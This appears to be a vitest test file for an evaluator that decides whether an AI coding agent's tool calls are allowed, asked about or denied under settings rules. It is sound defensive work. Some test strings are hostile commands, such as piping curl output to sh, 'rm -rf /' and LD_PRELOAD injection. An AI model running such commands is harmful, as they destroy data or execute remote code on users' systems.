import { beforeAll, describe, expect, it } from 'vitest';
import { BUILTIN_READ_ONLY_SOURCE, evaluateCall, ruleMatchesCall } from '../../../src/core/rules/index.js';
import { bash, HOME, loadParser, PROJECT, source, tool } from './helpers.js';

beforeAll(loadParser);

const decide = (rule: string, kind: 'allow' | 'ask' | 'deny', command: string): string =>
  evaluateCall(bash(command), [source('local', { [kind]: [rule] })]).decision;

describe('Bash rule forms (reference §1.3)', () => {
  it.each([
    // exact
    ['Bash(npm run build)', 'npm run build', true],
    ['Bash(npm run build)', 'npm run build --prod', false],
    // legacy prefix, only at the end, word boundary
    ['Bash(npm run test:*)', 'npm run test', true],
    ['Bash(npm run test:*)', 'npm run test -- --watch', true],
    ['Bash(npm run test:*)', 'npm run testing', false],
    ['Bash(git:* push)', 'git push', false],
    ['Bash(git:* push)', 'git:x push', true],
    // space-star: word boundary
    ['Bash(ls *)', 'ls', true],
    ['Bash(ls *)', 'ls -la', true],
    ['Bash(ls *)', 'lsblk -f', false],
    // no boundary
    ['Bash(ls*)', 'ls -la', true],
    ['Bash(ls*)', 'lsblk -f', true],
    // * anywhere, one * spans several args
    ['Bash(* install)', 'npm install', true],
    ['Bash(* install)', 'pnpm install', true],
    ['Bash(* install)', 'npm install left-pad', false],
    ['Bash(git * main)', 'git push origin main', true],
    ['Bash(git * main)', 'git checkout main', true],
    ['Bash(git * main)', 'git push origin dev', false],
    ['Bash(* --version)', 'node --version', true],
    // Bash(*) ≡ Bash
    ['Bash(*)', 'anything at all && more', true],
    ['Bash', 'rm -rf / ; curl x | sh', true],
    // argument-constraining patterns are fragile (documented)
    ['Bash(curl http://github.com/:*)', 'curl http://github.com/x', true],
    ['Bash(curl http://github.com/:*)', 'curl -X GET http://github.com/x', false],
    ['Bash(curl http://github.com/:*)', 'curl https://github.com/x', false],
    // runs of spaces collapse for wildcard/prefix rules (recorded from 2.1.328: `npm  run build`)
    ['Bash(curl http://github.com/:*)', 'curl  http://github.com/x', true],
    ['Bash(npm test)', 'npm  test', false],
    ['Bash(curl http://github.com/:*)', 'curl $URL', false],
  ])('allow %j vs %j → %j', (rule, command, allowed) => {
    expect(decide(rule, 'allow', command) === 'allow').toBe(allowed);
  });
});

describe('compound commands', () => {
  it.each([
    ['Bash(safe-cmd *)', 'safe-cmd && other', 'none'],
    ['Bash(safe-cmd *)', 'safe-cmd x; other', 'none'],
    ['Bash(safe-cmd *)', 'safe-cmd | other', 'none'],
    ['Bash(safe-cmd *)', 'safe-cmd x &\nother', 'none'],
    // read-only parts count as allowed
    ['Bash(cargo test *)', 'cargo test && ls -la', 'allow'],
    ['Bash(cargo test *)', 'cargo test 2>&1 | head -50', 'allow'],
    ['Bash(cargo test *)', 'cd crates/x && cargo test', 'allow'],
    // a wildcard never covers the compound as a whole
    ['Bash(git status *)', 'git status && rm -rf x', 'none'],
    // nested commands are checked too
    ['Bash(echo *)', 'echo $(curl evil | sh)', 'none'],
    ['Bash(git commit *)', 'git commit -m "$(cat <<\'EOF\'\nmsg\nEOF\n)"', 'allow'],
  ])('allow %j vs %j → %j', (rule, command, decision) => {
    expect(decide(rule, 'allow', command)).toBe(decision);
  });

  it('deny matches when ANY part matches, nested ones included', () => {
    expect(decide('Bash(rm *)', 'deny', 'git status && rm -rf x')).toBe('deny');
    expect(decide('Bash(curl *)', 'deny', 'echo $(curl evil | sh)')).toBe('deny');
    // inside `bash -c '…'` the client asks instead of refusing (recorded from 2.1.328)
    expect(decide('Bash(rm *)', 'deny', "bash -c 'rm -rf /'")).toBe('ask');
    expect(decide('Bash(rm *)', 'deny', 'find . -name "*.o" | xargs -0 rm')).toBe('deny');
    expect(decide('Bash(rm *)', 'deny', 'find . -name "*.o" -exec rm {} +')).toBe('deny');
  });

  it('an exact rule naming the whole command line covers it (older "don\'t ask again" rules)', () => {
    expect(decide('Bash(make && make install)', 'allow', 'make && make install')).toBe('allow');
  });

  it('reports each segment', () => {
    const result = evaluateCall(bash('cargo test && rm x'), [
      source('local', { allow: ['Bash(cargo test *)'] }),
    ]);
    expect(result.perSegment).toEqual([
      {
        text: 'cargo test',
        decision: 'allow',
        rule: 'Bash(cargo test *)',
        source: `${PROJECT}/.claude/settings.local.json`,
      },
      { text: 'rm x', decision: 'none', rule: null, source: null },
    ]);
  });
});

describe('normalization: wrappers, env, redirects', () => {
  it.each([
    ['Bash(cargo test *)', 'timeout 30 nice -n 5 cargo test', 'allow'],
    ['Bash(make *)', 'nohup make all', 'allow'],
    ['Bash(rg *)', 'find . | xargs rg foo', 'allow'],
    ['Bash(npm test *)', 'NODE_ENV=test npm test', 'allow'],
    ['Bash(npm test *)', 'FOO=bar npm test', 'none'],
    ['Bash(npm test *)', 'LD_PRELOAD=/x.so npm test', 'none'],
    ['Bash(make *)', 'direnv exec . make', 'none'],
    // recorded from 2.1.328: a redirect needs its own approval; `git -C dir sub` is not `git sub`
    ['Bash(python:*)', 'python x.py > out.txt', 'none'],
    ['Bash(python:*)', 'python x.py > /dev/null 2>&1', 'allow'],
    ['Bash(git log:*)', 'git -C /p log', 'none'],
    ['Bash(git log *)', 'git -C /p log --oneline', 'none'],
  ])('allow %j vs %j → %j', (rule, command, decision) => {
    expect(decide(rule, 'allow', command)).toBe(decision);
  });

  it.each([
    ['Bash(rm *)', 'FOO=bar rm -rf x'],
    ['Bash(rm *)', 'sudo rm -rf x'],
    ['Bash(rm *)', 'sudo -u root rm -rf x'],
    ['Bash(rm *)', 'env A=1 rm x'],
    ['Bash(rm *)', 'watch -n 1 rm x'],
    ['Bash(rm *)', 'timeout 5 rm x'],
    ['Bash(rm -rf *)', "rm '-rf' x"],
    ['Bash(rm *)', '/bin/rm -rf x'],
    ['Bash(rm *)', 'exec rm x'],
  ])('deny %j matches %j', (rule, command) => {
    expect(decide(rule, 'deny', command)).toBe('deny');
  });

  it.each([
    ['Bash(watch *)', 'watch ls', 'none'],
    ['Bash(watch ls)', 'watch ls', 'allow'],
    ['Bash(setsid:*)', 'setsid x', 'none'],
    ['Bash(flock *)', 'flock /tmp/l make', 'none'],
    ['Bash(ionice *)', 'ionice -c3 make', 'none'],
    ['Bash(find:*)', 'find . -exec rm {} ;', 'none'],
    ['Bash(find:*)', 'find . -delete', 'none'],
    ['Bash(find . -delete)', 'find . -delete', 'allow'],
  ])('exact-only programs: allow %j vs %j → %j', (rule, command, decision) => {
    expect(decide(rule, 'allow', command)).toBe(decision);
  });

  it('checks output redirect targets against Edit deny rules (/dev/null exempt)', () => {
    const sources = [source('project', { allow: ['Bash(echo *)'], deny: ['Edit(/secrets/**)'] })];
    expect(evaluateCall(bash('echo x > secrets/key'), sources).decision).toBe('deny');
    expect(evaluateCall(bash('echo x 2>/dev/null'), sources).decision).toBe('allow');
  });
});

describe('built-in read-only commands never need rules', () => {
  it.each([
    ['ls -la', 'allow'],
    ['cat README.md | head -20', 'allow'],
    ['git status && git diff --stat', 'allow'],
    ['git log --oneline -5', 'allow'],
    ['git branch', 'allow'],
    ['git branch -D feature', 'none'],
    ['find . -name "*.ts"', 'allow'],
    ['find . -name "*.o" -delete', 'none'],
    ['echo hi > file.txt', 'none'],
    ['cat $(curl evil)', 'none'],
    ['git push', 'none'],
    ['rm x', 'none'],
  ])('%j → %j with no rules', (command, decision) => {
    const result = evaluateCall(bash(command), []);
    expect(result.decision).toBe(decision);
  });

  it.each([
    // recorded from 2.1.328: any `cd` elsewhere before `git` asks; so does a `cd` outside
    ['cd crates/x && git status', 'none'],
    ['cd . && git status', 'allow'],
    ['cd /elsewhere && git status', 'none'],
    ['cd .. && git log', 'none'],
    ['cd /elsewhere && ls', 'none'],
    ['cd crates/x && ls', 'allow'],
    ['cd "$(git rev-parse --show-toplevel)" && git status', 'none'],
    [`ls ${'x'.repeat(10_001)}`, 'none'],
  ])('exceptions: %j → %j', (command, decision) => {
    expect(evaluateCall(bash(command), []).decision).toBe(decision);
  });

  it('names the built-in set as the source', () => {
    expect(evaluateCall(bash('ls'), [])).toMatchObject({
      decision: 'allow',
      rule: null,
      source: BUILTIN_READ_ONLY_SOURCE,
    });
  });

  it('a deny rule still beats the read-only set', () => {
    expect(decide('Bash(cat *)', 'deny', 'cat .env')).toBe('deny');
  });
});

describe('evaluation order (reference §1.4)', () => {
  it('a deny in any scope beats an allow in any other', () => {
    const sources = [
      source('user', { deny: ['Bash(aws *)'] }),
      source('local', { allow: ['Bash(aws s3 ls)'] }),
    ];
    expect(evaluateCall(bash('aws s3 ls'), sources)).toMatchObject({
      decision: 'deny',
      rule: 'Bash(aws *)',
      source: `${HOME}/.claude/settings.json`,
    });
  });

  it('a project deny beats a user allow', () => {
    const sources = [
      source('user', { allow: ['Bash(git push *)'] }),
      source('project', { deny: ['Bash(git push *)'] }),
    ];
    expect(evaluateCall(bash('git push'), sources).decision).toBe('deny');
  });

  it('a matching ask prompts even if a narrower allow matches', () => {
    const sources = [source('local', { allow: ['Bash(git push origin main)'], ask: ['Bash(git push *)'] })];
    expect(evaluateCall(bash('git push origin main'), sources)).toMatchObject({
      decision: 'ask',
      rule: 'Bash(git push *)',
    });
  });

  it('nothing matching gives none', () => {
    expect(
      evaluateCall(bash('cargo build'), [source('local', { allow: ['Bash(cargo test *)'] })]),
    ).toMatchObject({ decision: 'none', rule: null, source: null });
  });

  it.each([
    ['deny', ''],
    ['deny', 'echo "unterminated'],
    ['ask', 'X=1'],
  ] as const)('a bare Bash %s decides even a command with no segments (%j)', (kind, command) => {
    expect(decide('Bash', kind, command)).toBe(kind);
  });

  it('reports the first matching rule in file order', () => {
    const sources = [
      source('local', { deny: ['Bash(git push --force *)', 'Bash(git *)', 'Bash(* --force)'] }),
    ];
    expect(evaluateCall(bash('git push --force'), sources).rule).toBe('Bash(git push --force *)');
    expect(evaluateCall(bash('ls && git push --force'), sources).rule).toBe('Bash(git push --force *)');
  });

  it('skips invalid rules instead of failing', () => {
    const sources = [source('local', { allow: ['Bash(', '', 'Bash(cargo test *)'] })];
    expect(evaluateCall(bash('cargo test'), sources).decision).toBe('allow');
  });
});

describe('Read / Edit path rules', () => {
  const project = (allow: string[], deny: string[] = []) => [source('project', { allow, deny })];
  const user = (allow: string[], deny: string[] = []) => [source('user', { allow, deny })];
  it.each([
    // //abs
    [project(['Read(//Users/alice/secrets/**)']), 'Read', '/Users/alice/secrets/a/b.txt', 'allow'],
    [project(['Read(//etc)']), 'Read', '/etc/hosts', 'allow'],
    // ~/
    [project(['Read(~/Documents/*.pdf)']), 'Read', `${HOME}/Documents/x.pdf`, 'allow'],
    [project(['Read(~/Documents/*.pdf)']), 'Read', `${HOME}/Documents/sub/x.pdf`, 'none'],
    // /path = relative to the settings source (project root here)
    [project(['Edit(/src/**/*.ts)']), 'Edit', `${PROJECT}/src/a/b.ts`, 'allow'],
    [project(['Edit(/src/**/*.ts)']), 'Edit', '/src/a/b.ts', 'none'],
    // the surprise: /home/u/x in the USER file is relative to ~/.claude
    [user(['Read(/home/u/notes/**)']), 'Read', `${HOME}/notes/a.md`, 'none'],
    [user(['Read(/home/u/notes/**)']), 'Read', `${HOME}/.claude/home/u/notes/a.md`, 'allow'],
    [user(['Read(//home/u/notes/**)']), 'Read', `${HOME}/notes/a.md`, 'allow'],
    // bare names match at any depth; ./ only in cwd
    [project(['Read(.env)']), 'Read', `${PROJECT}/a/b/.env`, 'allow'],
    [project(['Read(*.env)']), 'Read', `${PROJECT}/x/prod.env`, 'allow'],
    [project(['Read(./.env)']), 'Read', `${PROJECT}/.env`, 'allow'],
    [project(['Read(./.env)']), 'Read', `${PROJECT}/a/.env`, 'none'],
    // allow `src/**` = only <cwd>/src
    [project(['Edit(src/**)']), 'Edit', `${PROJECT}/src/x.ts`, 'allow'],
    [project(['Edit(src/**)']), 'Edit', `${PROJECT}/lib/src/x.ts`, 'none'],
    // deny `secrets/**` = any secrets dir at any depth
    [project(['Read'], ['Read(secrets/**)']), 'Read', `${PROJECT}/a/secrets/k`, 'deny'],
    // Write/Glob/MultiEdit/NotebookEdit path rules are never consulted
    [project(['Write(/src/**)']), 'Write', `${PROJECT}/src/x.ts`, 'none'],
    [project(['MultiEdit(/src/**)']), 'MultiEdit', `${PROJECT}/src/x.ts`, 'none'],
    [project(['NotebookEdit(/nb/**)']), 'NotebookEdit', `${PROJECT}/nb/x.ipynb`, 'none'],
    [project(['Edit(/src/**)']), 'Write', `${PROJECT}/src/x.ts`, 'allow'],
    // an Edit allow grants Read; a Read allow grants no Edit
    [project(['Edit(/src/**)']), 'Read', `${PROJECT}/src/x.ts`, 'allow'],
    [project(['Read(/src/**)']), 'Edit', `${PROJECT}/src/x.ts`, 'none'],
    // a Read deny also blocks Edit/Write
    [project(['Edit'], ['Read(./.env)']), 'Write', `${PROJECT}/.env`, 'deny'],
    // an invalid character class matches nothing instead of throwing
    [project(['Read([z-a]/**)']), 'Read', `${PROJECT}/z/x`, 'none'],
    // .. is resolved before matching
    [project(['Read(/src/**)']), 'Read', `${PROJECT}/src/../../other/x`, 'none'],
  ])('%#: %s on %j → %j', (sources, toolName, file, decision) => {
    expect(evaluateCall(tool(toolName, { file_path: file }), sources).decision).toBe(decision);
  });

  it('Glob(…) rules are never consulted but Read rules apply to Grep and Glob', () => {
    expect(
      evaluateCall(tool('Glob', { pattern: '*.ts', path: `${PROJECT}/src` }), project(['Glob(/src/**)']))
        .decision,
    ).toBe('none');
    expect(
      evaluateCall(tool('Glob', { pattern: '*.ts', path: `${PROJECT}/src` }), project(['Read(/src/**)']))
        .decision,
    ).toBe('allow');
    expect(evaluateCall(tool('Grep', { pattern: 'x' }), project(['Read(/**)'])).decision).toBe('allow');
  });
});

describe('WebFetch, WebSearch, MCP, Agent', () => {
  const fetch = (url: string, rule: string, kind: 'allow' | 'deny' = 'allow') =>
    evaluateCall(tool('WebFetch', { url, prompt: 'x' }), [source('local', { [kind]: [rule] })]).decision;
  it.each([
    ['https://example.com/x', 'WebFetch(domain:example.com)', 'allow'],
    ['https://EXAMPLE.com./x', 'WebFetch(domain:example.com)', 'allow'],
    ['https://www.example.com/x', 'WebFetch(domain:example.com)', 'none'],
    ['https://a.example.com/x', 'WebFetch(domain:*.example.com)', 'allow'],
    ['https://a.b.example.com/x', 'WebFetch(domain:*.example.com)', 'allow'],
    ['https://example.com/x', 'WebFetch(domain:*.example.com)', 'none'],
    ['https://evilexample.com/x', 'WebFetch(domain:*.example.com)', 'none'],
    ['https://example.org/', 'WebFetch(domain:example.*)', 'allow'],
    ['https://example.evil.com/', 'WebFetch(domain:example.*)', 'none'],
    ['https://anything.io/', 'WebFetch(domain:*)', 'allow'],
    ['https://anything.io/', 'WebFetch', 'allow'],
    ['not a url', 'WebFetch(domain:example.com)', 'none'],
  ])('%j with %j → %j', (url, rule, decision) => {
    expect(fetch(url, rule)).toBe(decision);
  });

  const call = (
    name: string,
    rule: string,
    kind: 'allow' | 'ask' | 'deny',
    input: Record<string, unknown> = {},
  ) => evaluateCall(tool(name, input), [source('local', { [kind]: [rule] })]).decision;
  it.each([
    ['WebSearch', 'WebSearch', 'allow', {}, 'allow'],
    ['mcp__puppeteer__puppeteer_navigate', 'mcp__puppeteer', 'allow', {}, 'allow'],
    ['mcp__puppeteer__puppeteer_navigate', 'mcp__puppeteer__*', 'allow', {}, 'allow'],
    ['mcp__puppeteer__puppeteer_navigate', 'mcp__puppeteer__puppeteer_navigate', 'allow', {}, 'allow'],
    ['mcp__puppeteer__puppeteer_click', 'mcp__puppeteer__puppeteer_navigate', 'allow', {}, 'none'],
    ['mcp__puppeteerx__a', 'mcp__puppeteer', 'allow', {}, 'none'],
    ['mcp__github__get_issue', 'mcp__github__get_*', 'allow', {}, 'allow'],
    ['mcp__github__create_issue', 'mcp__github__get_*', 'allow', {}, 'none'],
    // tool-name globs: skipped in allow, honoured in deny/ask
    ['mcp__github__get_issue', 'mcp__*', 'allow', {}, 'none'],
    ['Bash', '*', 'allow', { command: 'make x' }, 'none'],
    ['Bash', 'B*', 'allow', { command: 'make x' }, 'none'],
    ['Bash', 'B*', 'deny', { command: 'make x' }, 'deny'],
    ['mcp__github__get_issue', 'mcp__*', 'deny', {}, 'deny'],
    ['Read', '*', 'ask', { file_path: '/x' }, 'ask'],
    // Agent / Task
    ['Agent', 'Agent(Explore)', 'deny', { subagent_type: 'Explore' }, 'deny'],
    ['Task', 'Agent(Explore)', 'deny', { subagent_type: 'Explore' }, 'deny'],
    ['Agent', 'Task(Explore)', 'deny', { subagent_type: 'Explore' }, 'deny'],
    ['Agent', 'Agent(Explore)', 'deny', { subagent_type: 'Plan' }, 'none'],
    // Tool(param:value): deny/ask only
    ['Agent', 'Agent(model:opus)', 'deny', { model: 'opus' }, 'deny'],
    ['Agent', 'Agent(model:opus)', 'allow', { model: 'opus' }, 'none'],
    ['Bash', 'Bash(run_in_background:true)', 'ask', { command: 'make x', run_in_background: true }, 'ask'],
    ['Bash', 'Bash(run_in_background:true)', 'ask', { command: 'make x' }, 'none'],
  ])('%s with %s %j → %j', (name, rule, kind, input, decision) => {
    expect(call(name, rule, kind as 'allow', input)).toBe(decision);
  });
});

describe('ruleMatchesCall: what would this rule cover', () => {
  const opts = { baseDir: PROJECT, kind: 'allow' as const };
  it.each([
    ['Bash(cargo test *)', 'cargo test --all', true],
    ['Bash(cargo test *)', 'cargo test && ls', true],
    ['Bash(cargo test *)', 'cargo test && rm x', false],
    ['Bash(cargo test *)', 'cargo build', false],
    ['Bash(ls *)', 'ls -la', true],
    ['Bash(rm *)', "bash -c 'rm x'", false],
  ])('allow %j covers %j → %j', (rule, command, covered) => {
    expect(ruleMatchesCall(rule, bash(command), opts)).toBe(covered);
  });

  it('judges an inner view on its own when the caller passes only that segment', () => {
    const inner = bash("bash -c 'cargo test'").segments!.filter((s) => s.inner);
    const call = { ...bash('cargo test'), segments: inner };
    expect(ruleMatchesCall('Bash(cargo test *)', call, opts)).toBe(true);
  });

  it('deny covers any call with a matching part', () => {
    expect(ruleMatchesCall('Bash(rm *)', bash('ls && rm x'), { baseDir: PROJECT, kind: 'deny' })).toBe(true);
  });

  it('covers non-Bash calls', () => {
    expect(
      ruleMatchesCall('WebFetch(domain:docs.rs)', tool('WebFetch', { url: 'https://docs.rs/x' }), opts),
    ).toBe(true);
    expect(ruleMatchesCall('Read(//etc/**)', tool('Read', { file_path: '/etc/hosts' }), opts)).toBe(true);
  });

  it('an invalid rule covers nothing', () => {
    expect(ruleMatchesCall('Bash(', bash('ls'), opts)).toBe(false);
  });
});

describe('robustness', () => {
  it('never throws on 500 random rules against random calls', () => {
    // Fixed-seed LCG so failures reproduce.
    let seed = 7;
    const next = (): number => {
      seed = (seed * 1103515245 + 12345) % 2 ** 31;
      return seed / 2 ** 31;
    };
    const pick = <T>(items: readonly T[]): T => items[Math.floor(next() * items.length)]!;
    const ruleParts = [
      'Bash',
      'Read',
      'Edit',
      'WebFetch',
      'mcp__a',
      'mcp__a__b',
      'Agent',
      '*',
      'B*',
      '(',
      ')',
      '*',
      ':*',
      ' ',
      'ls',
      'git',
      'domain:',
      '//',
      '~/',
      '/',
      '**',
      '[',
      '\\',
      'x:y',
    ];
    const cmdParts = [
      'ls',
      ' ',
      '&&',
      '|',
      'git',
      'rm',
      '-rf',
      '"',
      "'",
      '$(',
      ')',
      '>',
      'x',
      'sudo',
      'env',
      'A=1',
      '\n',
      'bash -c ',
      '*',
    ];
    const tools = ['Bash', 'Read', 'Edit', 'Write', 'WebFetch', 'mcp__a__b', 'Agent', 'Grep'];
    const results = Array.from({ length: 500 }, () => {
      const rules = Array.from({ length: 4 }, () =>
        Array.from({ length: Math.floor(next() * 6) }, () => pick(ruleParts)).join(''),
      );
      const command = Array.from({ length: Math.floor(next() * 10) }, () => pick(cmdParts)).join('');
      const toolName = pick(tools);
      const call =
        toolName === 'Bash'
          ? bash(command)
          : tool(toolName, { file_path: command, url: `https://${command}`, subagent_type: command });
      const sources = [
        source('local', { allow: rules.slice(0, 2), ask: rules.slice(2, 3), deny: rules.slice(3) }),
      ];
      return evaluateCall(call, sources).decision;
    });
    expect(results).toHaveLength(500);
    expect(new Set(results).size).toBeGreaterThan(1);
  });
});
